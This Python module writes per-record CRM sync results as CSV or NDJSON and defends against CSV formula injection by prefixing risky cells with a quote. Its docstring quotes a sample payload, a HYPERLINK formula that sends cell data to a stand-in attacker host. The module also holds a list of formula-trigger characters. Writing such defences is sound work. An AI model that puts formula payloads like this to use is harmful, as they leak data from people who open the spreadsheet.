"""Per-record results as a file: one CSV row or one NDJSON line per record (pure; the service streams the
rows through it a page at a time).

CSV is opened by people in spreadsheet programs, which run a cell that starts with ``=``, ``+``, ``-``
or ``@`` (and, in some, tab or carriage return) as a formula: a platform id or a Dynamics error message
such as ``=HYPERLINK("https://evil.example/?"&A1)`` would then run on the admin's machine. Following the
OWASP guidance (https://owasp.org/www-community/attacks/CSV_Injection), every such cell is prefixed with a
single quote, which spreadsheets show as text and do not evaluate, and every cell is quoted with embedded
quotes doubled. The check also looks past leading spaces and line breaks, and covers the full-width forms
of the four signs, which some spreadsheet programs read as the ASCII ones. NDJSON is for programs and
stays exact (no prefix).
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Mapping
from enum import StrEnum
from typing import Any


class ResultFormat(StrEnum):
    CSV = "csv"
    NDJSON = "ndjson"

    @property
    def media_type(self) -> str:
        return "text/csv; charset=utf-8" if self is ResultFormat.CSV else "application/x-ndjson"


# What makes a spreadsheet evaluate a cell (OWASP), plus the full-width signs.
FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")

CSV_COLUMNS: tuple[str, ...] = (
    "seq",
    "platformId",
    "action",
    "dynamicsId",
    "matchStatus",
    "matchRule",
    "errorCodes",
    "errors",
    "note",
    "changedColumns",
    "changes",
    "mergedIntoSeq",
)

# Excel reads a CSV as UTF-8 only when it starts with a byte order mark.
CSV_BOM = "\ufeff"


def neutralise(cell: str) -> str:
    """``cell`` as a spreadsheet shows it but never evaluates it."""
    stripped = cell.lstrip(" \n")
    if cell and (cell[0] in FORMULA_STARTS or (stripped and stripped[0] in FORMULA_STARTS)):
        return "'" + cell
    return cell


def without_crm_values(detail: Mapping[str, Any]) -> dict[str, Any]:
    """A record's result without the values Dynamics held (``changes[column].before``): shown to admins
    only; which columns change, and to what, stays."""
    result = dict(detail)
    changes = result.get("changes")
    if isinstance(changes, dict):
        result["changes"] = {
            column: {k: v for k, v in change.items() if k != "before"} if isinstance(change, dict) else change
            for column, change in changes.items()
        }
    return result


def csv_header() -> str:
    return CSV_BOM + _csv_line(list(CSV_COLUMNS))


def csv_row(detail: Mapping[str, Any]) -> str:
    """One record's result as a CSV line (every cell neutralised and quoted)."""
    match = _mapping(detail.get("match"))
    errors = [e for e in detail.get("errors") or [] if isinstance(e, dict)]
    changes = _mapping(detail.get("changes"))
    merged = _mapping(detail.get("mergedInto"))
    cells = [
        str(detail.get("seq", "")),
        _text(detail.get("platformId")),
        _text(detail.get("action")),
        _text(detail.get("dynamicsId")),
        _text(match.get("status")),
        _text(match.get("rule")),
        " | ".join(_text(e.get("code")) for e in errors if e.get("code")),
        " | ".join(f"{_text(e.get('field'))}: {_text(e.get('message'))}" for e in errors),
        _text(detail.get("note")),
        ", ".join(changes) if changes else "",
        json.dumps(changes, ensure_ascii=False, separators=(",", ":")) if changes else "",
        _text(merged.get("seq")),
    ]
    return _csv_line([neutralise(c) for c in cells])


def ndjson_line(detail: Mapping[str, Any]) -> str:
    return json.dumps(detail, ensure_ascii=False, separators=(",", ":")) + "\n"


def _mapping(value: Any) -> dict[str, Any]:
    return value if isinstance(value, dict) else {}


def _text(value: Any) -> str:
    return "" if value is None else str(value)


def _csv_line(cells: list[str]) -> str:
    out = io.StringIO()
    csv.writer(out, quoting=csv.QUOTE_ALL, lineterminator="\r\n").writerow(cells)
    return out.getvalue()
